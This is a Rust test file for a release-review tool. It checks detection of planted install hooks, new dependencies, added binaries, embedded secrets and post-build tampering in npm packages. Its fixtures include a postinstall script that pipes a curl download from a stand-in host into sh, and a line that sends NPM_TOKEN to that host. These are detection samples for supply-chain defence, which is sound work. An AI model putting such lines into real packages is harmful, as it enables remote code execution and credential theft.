//! Release review in `sluice preflight` (issue 15): `--previous` (a planted postinstall, new
//! dependency and added binary are reported; an unchanged republish reports nothing; `auto`
//! finds OLD in a mirror), `--against-source` (a package modified after the build is reported
//! with the file and the diff; an honest build is clean; build outputs; a monorepo package),
//! and the dependency auditors run against recorded responses (`tests/fixtures/audit/`)
//! through a fake command: vulnerable, clean, missing, timed out, offline. No network.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::Value;
use sluicebox::preflight::{Options, Previous, Report, Status};
use sluicebox::rules::Severity;

use crate::diff::tgz;
use crate::preflight::{Fixture, check, fake, offline, status};

const PJ_OLD: &str =
    r#"{"name": "acme-widget", "version": "1.4.0", "main": "index.js", "dependencies": {"left-pad": "1.3.0"}}"#;
const PJ_NEW: &str = r#"{"name": "acme-widget", "version": "1.4.1", "main": "index.js",
  "scripts": {"postinstall": "node scripts/setup.js"},
  "dependencies": {"left-pad": "1.3.0", "flatmap-streams": "^0.1.1"}}"#;
const INDEX: &str = "module.exports = function widget() { return 42; };\n";

fn elf() -> Vec<u8> {
    let mut b = b"\x7fELF\x02\x01\x01".to_vec();
    b.extend((0..4000u32).map(|i| (i * 7 % 251) as u8));
    b
}

/// A committed npm package with `package.json` and `index.js`.
fn npm_repo(pj: &str) -> Fixture {
    let f = Fixture::git();
    f.write("package.json", pj).write("index.js", INDEX).commit();
    f
}

/// The release 1.4.0 as published: `package/package.json`, `package/index.js`.
fn old_release(dir: &Path) -> PathBuf {
    let p = dir.join("acme-widget-1.4.0.tgz");
    std::fs::write(&p, tgz(&[("package.json", PJ_OLD.as_bytes()), ("index.js", INDEX.as_bytes())], "package/"))
        .unwrap();
    p
}

fn previous(dir: &Path, old: Previous) -> Options {
    Options { previous: Some(old), ..offline(dir) }
}

fn release_ids(r: &Report) -> Vec<&str> {
    r.items.iter().filter(|i| i.id.starts_with("release.")).map(|i| i.id.as_str()).collect()
}

#[test]
fn previous_reports_postinstall_dependency_binary_and_secret() {
    let f = npm_repo(PJ_NEW);
    f.write("scripts/setup.js", "require('child_process').exec('curl -s https://example.invalid/x | sh');\n")
        .write("lib/telemetry.js", &format!("const KEY = \"{}\";\n", fake("sk_live_", 24, 15)));
    std::fs::write(f.path().join("helper"), elf()).unwrap();
    f.commit();
    let dir = tempfile::tempdir().unwrap();
    let old = old_release(dir.path());
    let r = check(&previous(f.path(), Previous::Path(old)));
    let summary = status(&r, "release.previous", Status::Pass);
    assert!(
        summary.title.contains("acme-widget 1.4.0") && summary.title.contains("3 added, 0 removed, 1 changed"),
        "{}",
        summary.title
    );
    let hook = status(&r, "release.previous.install-script", Status::Fail);
    assert_eq!(hook.severity, Some(Severity::High));
    assert_eq!(
        (hook.evidence[0].path.as_str(), hook.evidence[0].note.as_str()),
        ("package.json", "node scripts/setup.js")
    );
    let dep = status(&r, "release.previous.dependency-added", Status::Fail);
    assert!(dep.title.contains("flatmap-streams ^0.1.1") && dep.severity == Some(Severity::Medium), "{dep:?}");
    let bin = status(&r, "release.previous.file-added-binary", Status::Fail);
    assert_eq!(bin.evidence[0].path, "helper");
    let secret = status(&r, "release.previous.finding-new", Status::Fail);
    assert_eq!(secret.evidence[0].path, "lib/telemetry.js");
    assert!(
        secret.evidence[0].note.contains("test.api-key")
            && !secret.evidence[0].note.contains(&fake("sk_live_", 24, 15))
    );
    assert_eq!(r.exit_code(false), 1);

    // --fail-on high: the medium new dependency only warns.
    let r = check(&Options { fail_on: Severity::High, ..previous(f.path(), Previous::Path(old_release(dir.path()))) });
    status(&r, "release.previous.dependency-added", Status::Warn);
    status(&r, "release.previous.install-script", Status::Fail);
}

#[test]
fn unchanged_republish_reports_nothing() {
    let f = npm_repo(PJ_OLD);
    let dir = tempfile::tempdir().unwrap();
    let r = check(&previous(f.path(), Previous::Path(old_release(dir.path()))));
    let summary = status(&r, "release.previous", Status::Pass);
    assert!(
        summary.title.ends_with("0 added, 0 removed, 0 changed, 2 unchanged; nothing that matters"),
        "{}",
        summary.title
    );
    assert_eq!(release_ids(&r), ["release.previous"]);
}

#[test]
fn previous_auto_from_a_mirror() {
    let f = npm_repo(PJ_NEW);
    let mirror = tempfile::tempdir().unwrap();
    old_release(mirror.path());
    // A later release in the mirror is not "previous"; another package is not this one.
    std::fs::write(mirror.path().join("acme-widget-1.5.0.tgz"), tgz(&[("package.json", b"{}")], "package/")).unwrap();
    std::fs::write(mirror.path().join("acme-gadget-1.4.0.tgz"), tgz(&[("package.json", b"{}")], "package/")).unwrap();
    let opts = Options { mirror: Some(mirror.path().to_path_buf()), ..previous(f.path(), Previous::Auto) };
    let r = check(&opts);
    let summary = status(&r, "release.previous", Status::Pass);
    assert!(summary.title.contains("acme-widget-1.4.0.tgz"), "{}", summary.title);
    status(&r, "release.previous.install-script", Status::Fail);

    let empty = tempfile::tempdir().unwrap();
    let r = check(&Options { mirror: Some(empty.path().to_path_buf()), ..previous(f.path(), Previous::Auto) });
    let none = status(&r, "release.previous", Status::Warn);
    assert!(none.title.contains("no earlier release of acme-widget"), "{}", none.title);
    assert!(none.evidence[0].note.contains(&empty.path().display().to_string()), "names where it looked");
}

fn against(dir: &Path, rev: &str) -> Options {
    Options { against_source: Some(rev.into()), ..offline(dir) }
}

#[test]
fn package_modified_after_the_build_is_reported_with_the_diff() {
    let f = npm_repo(PJ_OLD);
    f.git_ok(&["tag", "v1.4.0"]);
    // An honest build: the publish set is the committed tree plus build output under dist/.
    f.write("dist/widget.min.js", "module.exports=function(){return 42};\n");
    let r = check(&against(f.path(), "HEAD"));
    let ok = status(&r, "release.source", Status::Pass);
    assert!(ok.title.contains("2 files identical, 1 build outputs, nothing else"), "{}", ok.title);
    assert_eq!(release_ids(&r), ["release.source"]);

    // Modified after the build (the tag), and a file the repository never had.
    f.write(
        "index.js",
        &format!("{INDEX}require('https').get('https://example.invalid/?' + process.env.NPM_TOKEN);\n"),
    )
    .write("lib/extra.js", "module.exports = 3;\n");
    let r = check(&against(f.path(), "v1.4.0"));
    let differs = status(&r, "release.source.differs", Status::Fail);
    assert_eq!(differs.evidence[0].path, "index.js");
    let detail = differs.detail.as_deref().unwrap();
    assert!(detail.contains("--- repository/index.js") && detail.contains("+require('https')"), "{detail}");
    let missing = status(&r, "release.source.missing", Status::Fail);
    assert_eq!(missing.evidence[0].path, "lib/extra.js");
    assert_eq!(r.exit_code(false), 1);

    // Declared build outputs (sluice.toml's [diff] build_outputs reach here as config).
    let mut config = sluicebox::config::Config { builtin_rules: false, threads: 1, ..Default::default() };
    config.build_outputs.push("lib/**".into());
    let r = crate::preflight::check_with(&against(f.path(), "v1.4.0"), &config);
    assert!(!r.items.iter().any(|i| i.id == "release.source.missing"), "lib/** is declared");

    let r = check(&against(f.path(), "no-such-tag"));
    let bad = status(&r, "release.source", Status::Fail);
    assert!(bad.evidence[0].note.contains("no-such-tag"), "{bad:?}");
}

#[test]
fn against_source_in_a_monorepo_and_outside_git() {
    let f = Fixture::git();
    f.write("README.md", "monorepo\n").write("pkgs/a/package.json", PJ_OLD).write("pkgs/a/index.js", INDEX).commit();
    let pkg = f.path().join("pkgs/a");
    let r = check(&against(&pkg, "HEAD"));
    let ok = status(&r, "release.source", Status::Pass);
    assert!(ok.title.contains("2 files identical"), "{}", ok.title);
    f.write("pkgs/a/index.js", "module.exports = 0;\n");
    let r = check(&against(&pkg, "HEAD"));
    assert_eq!(status(&r, "release.source.differs", Status::Fail).evidence[0].path, "index.js");

    let plain = Fixture::plain();
    plain.write("package.json", PJ_OLD);
    let r = check(&against(plain.path(), "HEAD"));
    assert!(status(&r, "release.source", Status::Fail).title.contains("not a git repository"));
}

/// A fake auditor: prints `fixture` (from tests/fixtures/audit) and exits with `code`.
fn fake_auditor(dir: &Path, fixture: &str, code: i32) -> PathBuf {
    let json = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/audit").join(fixture);
    let script = dir.join(format!("fake-{fixture}.sh"));
    std::fs::write(&script, format!("#!/bin/sh\ncat '{}'\nexit {code}\n", json.display())).unwrap();
    make_executable(&script);
    script
}

fn make_executable(p: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// An npm package with a package-lock.json, its auditor replaced by `npm`.
fn audited(npm: Option<PathBuf>, tweak: impl FnOnce(&mut Options)) -> (Fixture, Report) {
    let f = npm_repo(PJ_OLD);
    f.write("package-lock.json", "{\"lockfileVersion\": 3, \"packages\": {}}\n").commit();
    let mut opts = Options::new(f.path());
    opts.audit.npm = npm;
    tweak(&mut opts);
    let r = check(&opts);
    (f, r)
}

#[test]
fn npm_audit_from_recorded_responses() {
    let bin = tempfile::tempdir().unwrap();
    let (_f, r) = audited(Some(fake_auditor(bin.path(), "npm-vulnerable.json", 1)), |_| {});
    let a = status(&r, "dependencies.audit.npm", Status::Fail);
    assert_eq!(a.severity, Some(Severity::High));
    assert!(a.title.contains("2 known vulnerabilities (1 high, 1 medium)"), "{}", a.title);
    assert_eq!(a.evidence[0].path, "package-lock.json");
    assert!(
        a.evidence[0].note.starts_with("GHSA-aaaa-bbbb-cccc acme-template <2.4.1 [high]"),
        "{}",
        a.evidence[0].note
    );
    assert!(a.evidence[0].note.ends_with("fixed by installing acme-template@2.4.1"));

    // Only the high one fails under --fail-on high... and a medium-only report warns.
    let (_f, r) = audited(Some(fake_auditor(bin.path(), "npm-vulnerable.json", 1)), |o| o.fail_on = Severity::High);
    status(&r, "dependencies.audit.npm", Status::Fail);

    let (_f, r) = audited(Some(fake_auditor(bin.path(), "npm-clean.json", 0)), |_| {});
    status(&r, "dependencies.audit.npm", Status::Pass);

    let (_f, r) = audited(Some(fake_auditor(bin.path(), "npm-offline.json", 1)), |_| {});
    let why = status(&r, "dependencies.audit.npm", Status::Manual);
    assert!(why.title.starts_with("npm audit not run: the registry did not answer"), "{}", why.title);

    let (_f, r) = audited(Some(bin.path().join("no-such-npm")), |_| {});
    let why = status(&r, "dependencies.audit.npm", Status::Manual);
    assert_eq!(why.title, "npm audit not run: 'no-such-npm' is not installed");

    let slow = bin.path().join("slow.sh");
    std::fs::write(&slow, "#!/bin/sh\nexec sleep 5\n").unwrap();
    make_executable(&slow);
    let (_f, r) = audited(Some(slow), |o| o.audit.timeout = Duration::from_millis(300));
    let why = status(&r, "dependencies.audit.npm", Status::Manual);
    assert!(why.title.contains("did not answer within"), "{}", why.title);

    let (_f, r) = audited(Some(fake_auditor(bin.path(), "npm-vulnerable.json", 1)), |o| o.audit.offline = true);
    let why = status(&r, "dependencies.audit.npm", Status::Manual);
    assert!(why.title.contains("--offline"), "{}", why.title);
}

#[test]
fn npm_audit_needs_an_npm_lockfile() {
    let bin = tempfile::tempdir().unwrap();
    let f = npm_repo(PJ_OLD);
    f.write("yarn.lock", "# yarn lockfile v1\n").commit();
    let mut opts = Options::new(f.path());
    opts.audit.npm = Some(fake_auditor(bin.path(), "npm-vulnerable.json", 1));
    let why = status(&check(&opts), "dependencies.audit.npm", Status::Manual).clone();
    assert!(why.title.contains("not yarn.lock"), "{}", why.title);
    let g = npm_repo(PJ_OLD);
    opts.dir = g.path().to_path_buf();
    let why = status(&check(&opts), "dependencies.audit.npm", Status::Manual).clone();
    assert_eq!(why.title, "npm audit not run: no lockfile");
}

#[test]
fn pip_and_cargo_audit_from_recorded_responses() {
    let bin = tempfile::tempdir().unwrap();
    let f = Fixture::git();
    f.write(
        "pyproject.toml",
        "[project]\nname = \"acme-py\"\nversion = \"1.0\"\ndependencies = [\"acme-http==2.19.0\"]\n",
    )
    .write("requirements.txt", "acme-http==2.19.0\n")
    .commit();
    let mut opts = Options { run_tools: true, ..Options::new(f.path()) };
    opts.audit.pip_audit = Some(fake_auditor(bin.path(), "pip-vulnerable.json", 1));
    let r = check(&opts);
    let a = status(&r, "dependencies.audit.python", Status::Fail);
    assert!(
        a.evidence[0]
            .note
            .starts_with("PYSEC-2099-0001 (CVE-2099-00001, GHSA-gggg-hhhh-jjjj) acme-http 2.19.0 [severity not given]"),
        "{}",
        a.evidence[0].note
    );
    assert!(a.evidence[0].note.ends_with("fixed in 2.20.0"));
    opts.audit.pip_audit = Some(fake_auditor(bin.path(), "pip-clean.json", 0));
    status(&check(&opts), "dependencies.audit.python", Status::Pass);
    std::fs::remove_file(f.path().join("requirements.txt")).unwrap();
    let why = status(&check(&opts), "dependencies.audit.python", Status::Manual).clone();
    assert!(why.title.contains("no requirements.txt or pylock.toml"), "{}", why.title);

    let c = Fixture::git();
    c.write("Cargo.toml", "[package]\nname = \"acme-rs\"\nversion = \"0.1.0\"\nedition = \"2021\"\n")
        .write("src/lib.rs", "pub fn f() {}\n")
        .write("Cargo.lock", "version = 4\n\n[[package]]\nname = \"acme-rs\"\nversion = \"0.1.0\"\n")
        .commit();
    let mut opts = Options::new(c.path());
    opts.audit.cargo = Some(fake_auditor(bin.path(), "cargo-vulnerable.json", 1));
    let a = status(&check(&opts), "dependencies.audit.cargo", Status::Fail).clone();
    assert!(
        a.evidence[0].note.starts_with("RUSTSEC-2099-0001 (CVE-2099-00002) acme-buf 1.4.0"),
        "{}",
        a.evidence[0].note
    );
    assert!(a.evidence[0].note.ends_with("fixed in >=1.4.2"));
    opts.audit.cargo = Some(fake_auditor(bin.path(), "cargo-clean.json", 0));
    status(&check(&opts), "dependencies.audit.cargo", Status::Pass);
    // `cargo audit` without cargo-audit installed.
    let no_sub = bin.path().join("cargo-without-audit.sh");
    std::fs::write(&no_sub, "#!/bin/sh\necho 'error: no such command: `audit`' >&2\nexit 101\n").unwrap();
    make_executable(&no_sub);
    opts.audit.cargo = Some(no_sub);
    let why = status(&check(&opts), "dependencies.audit.cargo", Status::Manual).clone();
    assert_eq!(why.title, "cargo audit not run: cargo-audit is not installed");
}

fn sluice(args: &[&str], env: &[(&str, &Path)]) -> std::process::Output {
    let mut cmd = Command::new(crate::util::bin());
    cmd.args(args);
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

#[test]
fn cli_flags_help_and_exit_codes() {
    let help = String::from_utf8(sluice(&["preflight", "--help"], &[]).stdout).unwrap();
    for flag in ["--previous <OLD>", "--against-source [<REF>]", "--offline", "--mirror <DIR>", "--fail-on"] {
        assert!(help.contains(flag), "{flag} missing from --help:\n{help}");
    }

    let f = npm_repo(PJ_NEW);
    f.write("package-lock.json", "{\"lockfileVersion\": 3, \"packages\": {}}\n").commit();
    let dir = f.path().to_str().unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let old = old_release(tmp.path());
    let rules = tmp.path().join("rules.toml");
    std::fs::write(&rules, crate::preflight::RULES).unwrap();
    let base = ["preflight", dir, "--no-builtin-rules", "--rules", rules.to_str().unwrap(), "--format", "json"];
    let npm = fake_auditor(tmp.path(), "npm-vulnerable.json", 1);
    let run = |extra: &[&str]| {
        let out = sluice(&[&base[..], extra].concat(), &[("SLUICE_AUDIT_NPM", &npm)]);
        let doc: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
        (out.status.code(), doc)
    };
    let find = |doc: &Value, id: &str| doc["items"].as_array().unwrap().iter().find(|i| i["id"] == id).cloned();

    let (code, doc) = run(&["--previous", old.to_str().unwrap(), "--against-source"]);
    assert_eq!(code, Some(1));
    let hook = find(&doc, "release.previous.install-script").expect("postinstall reported");
    assert_eq!((hook["status"].as_str(), hook["severity"].as_str()), (Some("fail"), Some("high")));
    assert_eq!(find(&doc, "release.source").unwrap()["status"], "pass");
    let audit = find(&doc, "dependencies.audit.npm").unwrap();
    assert_eq!(audit["status"], "fail", "SLUICE_AUDIT_NPM replays the recorded report: {audit}");

    let (_, doc) = run(&["--offline"]);
    assert_eq!(find(&doc, "dependencies.audit.npm").unwrap()["status"], "manual");
    assert!(find(&doc, "release.previous").is_none(), "no --previous, no release review");

    let out = sluice(&["preflight", dir, "--previous", "/no/such/release.tgz"], &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("does not exist"));

    // sluice.toml declares build outputs for --against-source.
    let pj = PJ_NEW.replace("\"main\"", "\"files\": [\"index.js\", \"gen\"], \"main\"");
    f.write("package.json", &pj).commit();
    f.write("gen/out.js", "module.exports = 2;\n");
    let (_, doc) = run(&["--offline", "--against-source"]);
    assert!(find(&doc, "release.source.missing").is_some(), "gen/out.js is not in HEAD: {doc}");
    f.write("sluice.toml", "[diff]\nbuild_outputs = [\"gen/**\"]\n");
    let (_, doc) = run(&["--offline", "--against-source"]);
    assert!(find(&doc, "release.source.missing").is_none(), "declared in sluice.toml");
}
